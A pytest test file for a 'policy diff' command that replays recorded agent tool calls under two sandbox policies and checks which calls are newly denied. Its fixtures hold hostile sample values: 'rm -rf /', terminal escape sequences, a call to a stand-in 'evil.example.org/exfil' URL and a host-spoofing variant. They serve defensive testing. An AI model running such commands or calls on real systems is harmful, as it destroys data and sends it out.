"""``policy diff``: recorded calls decided under two policies, against decisions made one by one."""

from __future__ import annotations

import importlib.util
import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from runner.cli.app import app
from runner.domain.registry import Registry
from runner.errors import CapabilityDenied
from runner.policy import decide_call, diff_policies, load_policy
from runner.policy.diff import recorded_calls
from runner.runtime.registry import RuntimeRegistry
from runner.wire.argrules import guard
from tests.support.paths import REPO

CI = REPO / "examples" / "ci"
SHELL_TRACE = CI / "recorded" / "shell-calls.jsonl"
GATE = CI / "policy.yaml"


def _generator() -> Any:
    spec = importlib.util.spec_from_file_location(
        "make_shell_calls", CI / "recorded" / "make_shell_calls.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _policy(tmp_path: Path, name: str, extra: str) -> Path:
    path = tmp_path / f"{name}.yaml"
    path.write_text(f"name: {name}\nmode: shadow\n{extra}", encoding="utf-8")
    return path


def _trace(tmp_path: Path, calls: list[tuple[str, str | None, Any]], name: str = "t") -> Path:
    """A trace of the generator's run line, ``calls`` (tool, effect, args) and an end line."""
    run, *_ = _generator().lines()
    lines: list[dict[str, Any]] = [run]
    for index, (tool, effect, args) in enumerate(calls):
        line: dict[str, Any] = {"v": 1, "type": "call", "index": index, "tool": tool, "args": args}
        if effect is not None:
            line["effect"] = effect
        lines.append(line)
    lines.append({"v": 1, "type": "end", "status": "succeeded", "exit_code": 0})
    path = tmp_path / f"{name}.jsonl"
    path.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    return path


def test_the_committed_trace_is_what_its_generator_writes() -> None:
    text = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in _generator().lines())
    assert SHELL_TRACE.read_text(encoding="utf-8") == text


def test_a_tightened_rule_denies_exactly_the_calls_labelled_destructive() -> None:
    labelled = _generator().COMMANDS
    report = diff_policies(load_policy("shadow"), load_policy(GATE), [SHELL_TRACE])
    data = report.to_json()
    assert data["calls"] == 200 and report.exit_code == 1
    assert data["newly_denied"]["shell.run"]["count"] == 15
    assert data["newly_allowed"] == {}
    assert data["unchanged"] == {"shell.run": {"allowed": 185, "refused": 0}}
    new = load_policy(GATE)
    denied = [
        call.args["command"]
        for call in recorded_calls([SHELL_TRACE])
        if not decide_call(new, call.tool, call.effect, call.args).allowed
    ]
    assert denied == [command for command, destructive in labelled if destructive]
    assert data["new"]["unused_rules"] == ["github-api-only"]  # no http.get was recorded
    assert data["old"]["unused_rules"] == [] and data["old"]["rules"] == []
    for example in data["newly_denied"]["shell.run"]["examples"]:
        assert example["new"]["outcome"] == "denied" and example["new"]["rule"]
        assert example["old"]["outcome"] == "allowed"


MIXED = [
    ("http.get", "read", {"url": "https://api.github.com/repos/x"}),
    ("http.get", "read", {"url": "https://evil.example.org/exfil?d=1"}),
    ("http.get", "read", {"url": "https://API.GITHUB.COM./rate_limit"}),
    ("http.get", "read", {}),
    ("shell.run", "local", {"command": "rm -rf /"}),
    ("shell.run", "local", {"command": "ls"}),
    ("email.send", "unsafe", {"to": "a@example.com"}),
    ("kb.search", "read", {"query": "refund"}),
    ("mystery.tool", None, {"x": 1}),  # no effect recorded: unsafe, fail closed
    ("ticket.close", "unsafe", {"ticket_id": "T-1"}),
]


def test_the_report_equals_the_decisions_computed_one_by_one(tmp_path: Path) -> None:
    old = load_policy(_policy(tmp_path, "old", "tools: {unsafe_allow: [ticket.close]}\n"))
    new = load_policy(GATE)
    traces = [SHELL_TRACE, _trace(tmp_path, MIXED)]
    report = diff_policies(old, new, traces)
    expected: dict[str, Counter[str]] = {}
    unresolvable: dict[str, Counter[str]] = {"old": Counter(), "new": Counter()}
    runtime = _runtime_tools(new)
    for call in recorded_calls(traces):
        before = decide_call(old, call.tool, call.effect, call.args)
        after = decide_call(new, call.tool, call.effect, call.args)
        for side, verdict in (("old", before), ("new", after)):
            if verdict.outcome == "unresolvable":
                unresolvable[side][call.tool] += 1
        if before.allowed and not after.allowed:
            change = "newly_denied"
        elif after.allowed and not before.allowed:
            change = "newly_allowed"
        else:
            change = "allowed" if after.allowed else "refused"
        expected.setdefault(call.tool, Counter())[change] += 1
        # the argument layer is the sandbox's: its guard refuses exactly what decide_call denies
        if after.outcome != "unresolvable":
            refused = False
            try:
                guard(runtime[call.tool].rules, call.tool, call.args, {})
            except CapabilityDenied:
                refused = True
            assert refused == (after.outcome == "denied"), call
    data = report.to_json()
    got: dict[str, Counter[str]] = {}
    for change in ("newly_denied", "newly_allowed"):
        for tool, entry in data[change].items():
            got.setdefault(tool, Counter())[change] = entry["count"]
    for tool, counts in data["unchanged"].items():
        for key, value in counts.items():
            if value:
                got.setdefault(tool, Counter())[key] = value
    assert got == expected
    for side in ("old", "new"):
        assert {t: u["count"] for t, u in data[side]["unresolvable"].items()} == dict(
            unresolvable[side]
        )
    # what the fixture was built to show
    assert data["newly_denied"]["http.get"]["count"] == 2  # another host, no url at all
    assert data["newly_denied"]["ticket.close"]["count"] == 1  # unsafe_allow dropped
    assert data["new"]["unresolvable"]["mystery.tool"]["rule"] == "deny effect unsafe"
    assert "github-api-only" not in data["new"]["unused_rules"]


def _runtime_tools(policy: Any) -> dict[str, Any]:
    """The sandbox's registry of every tool of MIXED and the shell trace, under ``policy``."""
    tools = {tool: effect for tool, effect, _ in MIXED} | {"shell.run": "local"}
    entries = [
        {"id": tool, "effect": effect or "unsafe", "disposition": "recorded"}
        for tool, effect in tools.items()
    ]
    manifest = Registry([]).manifest(policy)
    manifest["tools"] = entries
    registry = RuntimeRegistry.from_manifest(json.loads(json.dumps(manifest)), "shadow")
    return {tool: registry.resolve(tool) for tool in tools}


def test_a_structural_denial_is_reported_as_unresolvable_and_newly_denied(tmp_path: Path) -> None:
    strict = load_policy(_policy(tmp_path, "strict", 'tools: {deny: ["shell.*"]}\n'))
    data = diff_policies(load_policy("shadow"), strict, [SHELL_TRACE]).to_json()
    assert data["newly_denied"]["shell.run"]["count"] == 200
    assert data["new"]["unresolvable"]["shell.run"] == {
        "count": 200,
        "rule": 'deny "shell.*"',
        "reason": 'tool "shell.run" is local: denied by '
        + str(strict.source)
        + ' (deny "shell.*")',
    }


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["policy", "diff", *args])
    return result.exit_code, result.stdout, result.stderr


def test_cli_exit_0_when_nothing_changed_and_1_when_something_did(tmp_path: Path) -> None:
    code, out, _ = _cli(str(GATE), str(GATE), "--against", str(SHELL_TRACE.parent))
    assert code == 0 and out.splitlines()[-1] == "no change"
    code, out, _ = _cli("shadow", str(GATE), "--against", str(SHELL_TRACE), "--json")
    data = json.loads(out)
    assert code == 1 and data["exit_code"] == 1 and data["changed"] is True
    assert set(data) >= {"newly_denied", "newly_allowed", "unchanged", "old", "new"}
    # several traces after one --against, or --against repeated
    mixed = _trace(tmp_path, MIXED)
    code, out, _ = _cli("shadow", str(GATE), "--against", str(SHELL_TRACE), str(mixed), "--json")
    assert code == 1 and json.loads(out)["traces"] == 2
    code, out, _ = _cli(
        "shadow", str(GATE), "--against", str(SHELL_TRACE), "--against", str(mixed), "--json"
    )
    assert json.loads(out)["calls"] == 200 + len(MIXED)


def test_printed_arguments_are_inert(tmp_path: Path) -> None:
    hostile = "rm -rf / \x1b]0;pwned\x07\x1b[2J \u202e"
    trace = _trace(tmp_path, [("shell.run", "local", {"command": hostile})])
    code, out, _ = _cli("shadow", str(GATE), "--against", str(trace))
    assert code == 1
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\u001b]0;pwned" in out or "\\x1b]0;pwned" in out


@pytest.mark.parametrize(
    ("content", "where"),
    [
        (b'{"v": 1, "type": "run"\n', ":1"),  # malformed line
        (b"\xff\xfe binary\n", ":1"),
    ],
)
def test_hostile_traces_are_exit_2_naming_the_file_and_line(
    tmp_path: Path, content: bytes, where: str
) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_bytes(content)
    code, _, err = _cli("shadow", str(GATE), "--against", str(bad))
    assert code == 2 and f"bad.jsonl{where}" in err and "Traceback" not in err


def test_a_bad_call_line_deep_in_a_trace_names_its_line(tmp_path: Path) -> None:
    trace = _trace(tmp_path, [("shell.run", "local", {"command": "ls"})] * 3)
    lines = trace.read_text().splitlines()
    lines[2] = lines[2].replace('"args"', '"argz"')
    trace.write_text("\n".join(lines) + "\n")
    code, _, err = _cli("shadow", str(GATE), "--against", str(trace))
    assert code == 2 and "t.jsonl:3" in err


def test_inputs_that_are_not_traces(tmp_path: Path) -> None:
    assert _cli("shadow", str(GATE), "--against", str(tmp_path / "nope.jsonl"))[0] == 2
    assert _cli("shadow", str(GATE), "--against", str(tmp_path))[0] == 2  # no *.jsonl
    assert _cli("shadow", str(GATE))[0] == 2  # no traces at all
    assert _cli("shadow", "--against", str(SHELL_TRACE))[0] == 2  # one policy
    fifo = tmp_path / "fifo.jsonl"
    os.mkfifo(fifo)
    code, _, err = _cli("shadow", str(GATE), "--against", str(fifo))
    assert code == 2 and "fifo.jsonl" in err
    unknown = REPO / "tests" / "fixtures" / "traces" / "unknown_version.jsonl"
    assert _cli("shadow", str(GATE), "--against", str(unknown))[0] == 5


def test_a_bad_rule_is_exit_2_naming_the_policy_line_and_field(tmp_path: Path) -> None:
    bad = _policy(
        tmp_path,
        "bad",
        "rules:\n  - name: r\n    tool: shell.run\n    action: deny\n"
        "    when: {command: {matches: '(unclosed'}}\n",
    )
    code, _, err = _cli("shadow", str(bad), "--against", str(SHELL_TRACE))
    assert code == 2 and "bad.yaml" in err and "rules" in err, err


@pytest.mark.parametrize(
    ("old", "new", "named"), [("nosuch", "shadow", "OLD"), ("shadow", "x y", "NEW")]
)
def test_an_unknown_policy_is_named_by_its_positional_argument(
    old: str, new: str, named: str
) -> None:
    # a new user's finding: "--policy: no policy 'nosuch'" for an option policy diff lacks
    code, _, err = _cli(old, new, "--against", str(SHELL_TRACE))
    assert code == 2 and err.startswith(f"error: {named}: ") and "--policy" not in err, err
    code, out, _ = _cli(old, new, "--against", str(SHELL_TRACE), "--json")
    data = json.loads(out)
    assert code == 2 and data["exit_code"] == 2 and data["field"] == named, data
